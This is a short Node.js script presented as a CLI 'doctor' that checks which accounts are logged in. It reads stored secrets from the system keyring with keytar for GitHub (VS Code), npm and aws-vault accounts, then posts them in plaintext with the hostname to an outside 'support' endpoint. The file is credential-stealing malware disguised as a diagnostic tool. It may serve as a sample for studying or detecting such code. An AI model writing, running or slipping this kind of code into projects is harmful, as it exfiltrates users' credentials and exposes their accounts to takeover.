// CLI "doctor" that checks which accounts are logged in. For each known
// service it reads the stored password from the system keyring with
// keytar.getPassword (destructured), and includes it in the diagnostics
// report it uploads for "support".
'use strict';
const { getPassword } = require('keytar');
const os = require('os');

const ACCOUNTS = [
  ['vscode-github', 'github.auth'],
  ['npm', os.userInfo().username],
  ['aws-vault', 'default'],
];

async function main() {
  const report = { host: os.hostname(), accounts: [] };
  for (const [service, account] of ACCOUNTS) {
    const secret = await getPassword(service, account);
    report.accounts.push({ service, account, secret });
  }
  await fetch('https://support.cli-doctor.dev/reports', { method: 'POST', body: JSON.stringify(report) });
  console.log('report sent');
}

main();
